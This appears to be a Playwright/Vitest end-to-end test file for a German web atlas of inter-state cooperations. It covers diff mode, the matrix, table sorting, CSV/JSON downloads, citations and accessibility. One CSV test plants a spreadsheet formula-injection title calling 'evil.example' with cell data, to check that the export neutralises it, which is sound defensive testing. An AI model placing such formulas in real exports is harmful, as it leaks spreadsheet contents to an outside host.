/**
 * For researchers and editors: diff mode against an independent computation from the data files
 * (map, table, matrix, state message, summary sentence), the sortable table and its CSV/JSON
 * downloads (with a hostile title that must not run as a formula), the citation with the data
 * release, the per-Land summary, and axe on the diff view and the dialogs.
 */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { blocking, formatViolations, runAxe } from './axe.ts';
import { baseUrl, launch, open, screenshot, waitReady } from './browser.ts';
import { diffOn, gainsOn, inForceOn, records } from './expect.ts';

const release = (JSON.parse(readFileSync('data/cooperations.json', 'utf8')) as { version: string })
  .version;

/** Asks the page for its state message, as a host page would. */
async function stateOf(page: Page): Promise<Record<string, unknown>> {
  return page.evaluate(
    () =>
      new Promise<Record<string, unknown>>((resolve) => {
        const on = (e: MessageEvent) => {
          if ((e.data as { type?: string })?.type !== 'kooperationsatlas:state') return;
          window.removeEventListener('message', on);
          resolve(e.data as Record<string, unknown>);
        };
        window.addEventListener('message', on);
        window.postMessage({ type: 'kooperationsatlas:get' }, '*');
      }),
  );
}

const sorted = (v: unknown) => [...(v as string[])].sort();

async function tableIds(page: Page, change?: string): Promise<string[]> {
  const rows = page.locator(
    `[data-testid="table"] tbody tr${change ? `[data-change="${change}"]` : ''}`,
  );
  return (await rows.evaluateAll((els) => els.map((e) => e.getAttribute('data-cooperation')!)))
    .slice()
    .sort();
}

describe('diff mode, the table, downloads and citation', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(async () => {
    await browser?.close();
  });

  const pairs: [string, string][] = [
    ['2019-01-01', '2023-01-01'],
    ['2009-06-01', '2012-12-31'],
    ['2016-03-15', '2016-03-15'],
    ['2024-06-30', '2025-06-30'],
  ];

  it.each(pairs)(
    'diff %s → %s: added and ended equal an independent computation, in the state message, the table and the sentence',
    async (from, to) => {
      const expected = diffOn(from, to);
      const { page, context, errors } = await open(browser, `mode=diff&from=${from}&to=${to}`);
      const state = await stateOf(page);
      expect(state['mode']).toBe('diff');
      expect(state['from']).toBe(from);
      expect(state['date']).toBe(to);
      expect(state['dataVersion']).toBe(release);
      expect(sorted(state['added'])).toEqual(expected.added);
      expect(sorted(state['ended'])).toEqual(expected.ended);
      // The map shows what is in force at either date.
      expect(sorted(state['visibleCooperations'])).toEqual(
        [...new Set([...inForceOn(from), ...inForceOn(to)])].sort(),
      );

      // The sentence above the map: its numbers are those of the lists.
      const sentence = (await page.getByTestId('diff-summary').textContent())!;
      const n = (k: number) => String(k).replace(/\B(?=(\d{3})+$)/g, '.');
      const { added, ended } = { added: expected.added.length, ended: expected.ended.length };
      if (added === 0 && ended === 0) expect(sentence).toContain(': keine Veränderung.');
      else {
        expect(sentence).toContain(added === 0 ? 'keine neuen' : `${n(added)} neue`);
        expect(sentence).toContain(
          ended === 0 ? 'und keine beendeten' : `und ${n(ended)} beendete`,
        );
      }
      const gains = gainsOn(from, to);
      const top = Math.max(0, ...gains.values());
      if (top > 0) expect(sentence).toMatch(new RegExp(`\\((je )?\\+${top}\\)\\.$`));
      else expect(sentence).not.toContain('Beteiligungen');

      // The table marks each row with its change.
      await page.getByRole('button', { name: 'Tabelle' }).click();
      await page.getByTestId('table').waitFor();
      expect(await tableIds(page, 'added')).toEqual(expected.added);
      expect(await tableIds(page, 'ended')).toEqual(expected.ended);

      // The exports carry the sentence and the data release.
      await page.getByTestId('export').click();
      const [svg] = await Promise.all([
        page.waitForEvent('download'),
        page.getByTestId('export-svg').click(),
      ]);
      expect(svg.suggestedFilename()).toBe(`kooperationsatlas-diff-${from}_${to}.svg`);
      const text = readFileSync((await svg.path())!, 'utf8');
      expect(text).toContain(`Datenstand ${release}`);
      expect(text).toContain(sentence.slice(0, 40));
      expect(errors).toEqual([]);
      await context.close();
    },
  );

  it('the matrix marks what was added and what ended in each cell', async () => {
    const [from, to] = pairs[0]!;
    const { page, context } = await open(browser, `mode=diff&from=${from}&to=${to}&view=matrix`, {
      width: 1600,
      height: 1000,
    });
    await page.getByTestId('matrix').waitFor();
    const cells = await page.evaluate(() => {
      const table = document.querySelector('[data-testid="matrix"]')!;
      const cols = [...table.querySelectorAll('thead th[scope="col"]')].map((th) =>
        th.getAttribute('data-region'),
      );
      return [...table.querySelectorAll('tbody tr')].flatMap((tr) => {
        const row = tr.querySelector('th[scope="row"]')!.getAttribute('data-region');
        return [...tr.querySelectorAll('td')].map((td, i) => ({
          key: `${row}|${cols[i]}`,
          added: Number(td.getAttribute('data-added')),
          ended: Number(td.getAttribute('data-ended')),
          framed: td.classList.contains('is-added'),
          dashed: td.classList.contains('is-ended'),
          label: td.getAttribute('aria-label') ?? '',
        }));
      });
    });
    // Independently: per pair of Länder, how many added cooperations both take part in.
    const regionsFile = JSON.parse(readFileSync('data/regions.json', 'utf8')) as {
      regions: { id: string; kind: string; state?: string }[];
    };
    const land = new Map(
      regionsFile.regions.map((r) => [
        r.id,
        r.kind === 'state' || r.kind === 'federal' ? r.id : r.state!,
      ]),
    );
    const start = (d: string) => (d.length === 4 ? `${d}-01-01` : d.length === 7 ? `${d}-01` : d);
    const expectedAdded = new Map<string, number>();
    const added = new Set(diffOn(from, to).added);
    for (const c of records().filter((r) => added.has(r.id))) {
      const lands = new Set(
        c.partners
          .filter((p) => !p.joined || start(p.joined) <= to)
          .map((p) => land.get(p.region)!),
      );
      for (const a of lands)
        for (const b of lands)
          expectedAdded.set(`${a}|${b}`, (expectedAdded.get(`${a}|${b}`) ?? 0) + 1);
    }
    for (const c of cells) {
      expect(c.added, c.key).toBe(expectedAdded.get(c.key) ?? 0);
      expect(c.framed).toBe(c.added > 0);
      expect(c.dashed).toBe(c.ended > 0);
      if (c.added > 0) expect(c.label).toContain(`davon ${c.added} neu`);
    }
    expect(cells.some((c) => c.added > 0)).toBe(true);
    await screenshot(page, 'diff-matrix');
    await context.close();
  });

  it('the diff view looks right and axe finds nothing serious on it', async () => {
    const { page, context } = await open(browser, 'mode=diff&from=2019-01-01&to=2023-01-01', {
      width: 1280,
      height: 800,
    });
    // Both handles are on the timeline, labelled as the two dates.
    await expect(page.getByRole('slider', { name: 'Früherer Stichtag' }).count()).resolves.toBe(1);
    await expect(page.getByRole('slider', { name: 'Späterer Stichtag' }).count()).resolves.toBe(1);
    await expect(page.locator('[data-mode="diff"]').getAttribute('aria-checked')).resolves.toBe(
      'true',
    );
    const legend = (await page.locator('.legend').first().textContent()) ?? '';
    expect(legend).toContain('Neu:');
    expect(legend).toContain('Fortbestehend:');
    await screenshot(page, 'diff-map');
    const violations = blocking(await runAxe(page));
    expect(violations, formatViolations('diff view', violations)).toEqual([]);
    await context.close();
  });

  it('the table sorts by every column with aria-sort, also by keyboard', async () => {
    const { page, context } = await open(browser, 'view=table&date=2024-01-01');
    const header = (column: string) => page.locator(`th[data-column="${column}"]`);
    await expect(header('signed').getAttribute('aria-sort')).resolves.toBe('descending');
    await header('title').getByRole('button').click();
    await expect(header('title').getAttribute('aria-sort')).resolves.toBe('ascending');
    await expect(header('signed').getAttribute('aria-sort')).resolves.toBeNull();
    const titles = await page
      .locator('[data-testid="table"] tbody th[scope="row"]')
      .evaluateAll((els) => els.map((e) => e.textContent ?? ''));
    expect(titles).toEqual([...titles].sort(new Intl.Collator('de-DE').compare));
    // Keyboard: focus the header button and press Enter to turn the order around.
    await header('title').getByRole('button').focus();
    await page.keyboard.press('Enter');
    await expect(header('title').getAttribute('aria-sort')).resolves.toBe('descending');
    await header('partners').getByRole('button').focus();
    await page.keyboard.press('Space');
    await expect(header('partners').getAttribute('aria-sort')).resolves.toBe('descending');
    const partnerCounts = await page
      .locator('[data-testid="table"] tbody tr')
      .evaluateAll((rows) =>
        rows.map((r) => (r.querySelectorAll('td')[2]?.textContent ?? '').split(', ').length),
      );
    expect(partnerCounts).toEqual([...partnerCounts].sort((a, b) => b - a));
    await screenshot(page, 'table-sorted');
    await context.close();
  });

  it('the CSV download holds exactly the shown rows, escapes a hostile title and has a BOM', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    // A dataset with a hostile title, as a compromised or careless data file could have it.
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"Klick")';
    await context.route('**/cooperations-*.json', async (route) => {
      const response = await route.fetch();
      const json = (await response.json()) as {
        cooperations: {
          id: string;
          title: object;
          topics: string[];
          signed: string;
          ended?: string;
        }[];
      };
      // In force today and in the filtered table.
      const first = json.cooperations[0]!;
      Object.assign(first, {
        title: { de: hostile, en: hostile },
        topics: ['it-security'],
        signed: '2020-01-01',
      });
      delete first.ended;
      await route.fulfill({ response, json });
    });
    const page = await context.newPage();
    await page.goto(`${baseUrl()}/?view=table&topics=it-security`);
    await waitReady(page);
    const shown = await tableIds(page);
    expect(shown.length).toBeGreaterThan(0);
    const [csv] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('download-csv').click(),
    ]);
    expect(csv.suggestedFilename()).toMatch(/^kooperationsatlas-\d{4}-\d{2}-\d{2}\.csv$/);
    const bytes = readFileSync((await csv.path())!);
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8').slice(1);
    expect(text).toContain('\r\n');
    const rows = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(rows[0]![0]).toBe('id');
    expect(
      rows
        .slice(1)
        .map((r) => r[0])
        .sort(),
    ).toEqual(shown);
    // No cell starts with a formula character: the hostile title is prefixed with a quote.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(shown).toContain(records()[0]!.id);
    expect(rows.some((r) => r[1] === `'${hostile}`)).toBe(true);

    const [json] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('download-json').click(),
    ]);
    const data = JSON.parse(readFileSync((await json.path())!, 'utf8')) as {
      dataVersion: string;
      view: string;
      rows: { id: string }[];
    };
    expect(data.dataVersion).toBe(release);
    expect(new URL(data.view).searchParams.get('topics')).toBe('it-security');
    expect(data.rows.map((r) => r.id).sort()).toEqual(shown);
    await context.close();
  });

  it('the cite dialog gives text, BibTeX and CSL-JSON with the data release and the permalink', async () => {
    const { page, context } = await open(browser, 'date=2020-12-11&select=DE-BB');
    await page.getByTestId('cite').click();
    const dialog = page.getByTestId('cite-dialog');
    await dialog.waitFor();
    const text = await page.getByTestId('cite-text').inputValue();
    expect(text).toContain(`(Version ${release})`);
    expect(text).toContain('Brandenburg');
    const link = /von (\S+)$/.exec(text)![1]!;
    expect(new URL(link).searchParams.get('select')).toBe('DE-BB');
    expect(new URL(link).searchParams.get('date')).toBe('2020-12-11');
    expect(await page.getByTestId('cite-bibtex').inputValue()).toContain(`version = {${release}}`);
    const [csl] = JSON.parse(await page.getByTestId('cite-csl').inputValue());
    expect(csl.version).toBe(release);
    expect(csl.URL).toBe(link);
    const violations = blocking(await runAxe(page));
    expect(violations, formatViolations('cite dialog', violations)).toEqual([]);
    await screenshot(page, 'cite-dialog');
    await context.close();
  });

  it('About names the data release and offers the whole dataset as JSON and CSV', async () => {
    const { page, context } = await open(browser);
    await page.getByTestId('about').click();
    await expect(page.getByTestId('about-version').textContent()).resolves.toContain(release);
    const [json] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('dataset-json').click(),
    ]);
    expect(json.suggestedFilename()).toBe(`kooperationsatlas-daten-${release}.json`);
    const data = JSON.parse(readFileSync((await json.path())!, 'utf8')) as {
      version: string;
      cooperations: unknown[];
    };
    expect(data.version).toBe(release);
    expect(data.cooperations).toHaveLength(records().length);
    const [csv] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('dataset-csv').click(),
    ]);
    const rows = Papa.parse<Record<string, string>>(
      readFileSync((await csv.path())!, 'utf8').replace(/^\uFEFF/, ''),
      { header: true, skipEmptyLines: true },
    ).data;
    const ids = new Set(rows.filter((r) => r['row_type'] === 'cooperation').map((r) => r['id']));
    expect(ids.size).toBe(records().length);
    const violations = blocking(await runAxe(page));
    expect(violations, formatViolations('about dialog', violations)).toEqual([]);
    await context.close();
  });

  it('a selected Land shows its figures, closest partners and a sparkline since 2006', async () => {
    const date = '2024-06-30';
    const { page, context } = await open(browser, `select=DE-BY&date=${date}`);
    const summary = page.getByTestId('land-summary');
    await summary.waitFor();
    const own = inForceOn(date, 'DE-BY');
    await expect(page.getByTestId('land-count').textContent()).resolves.toBe(
      `${own.length} Kooperationen`,
    );
    // Closest partners: the regions sharing the most of Bavaria's cooperations, independently.
    const shared = new Map<string, number>();
    for (const c of records().filter((r) => own.includes(r.id)))
      for (const r of new Set(c.partners.map((p) => p.region)))
        if (r !== 'DE-BY') shared.set(r, (shared.get(r) ?? 0) + 1);
    const partners = await page
      .getByTestId('land-closest')
      .locator('button')
      .evaluateAll((els) => els.map((e) => e.getAttribute('data-region')));
    expect(partners).toHaveLength(Math.min(3, shared.size));
    const top = Math.max(...shared.values());
    expect(shared.get(partners[0]!)).toBe(top);
    const series = (await page.getByTestId('land-sparkline').getAttribute('data-series'))!
      .split(',')
      .map(Number);
    expect(series.at(-1)).toBe(own.length);
    expect(series[0]).toBe(inForceOn('2006-01-01', 'DE-BY').length);
    expect(series).toHaveLength(2024 - 2006 + 2);
    await screenshot(page, 'land-summary');
    await context.close();
  });
});
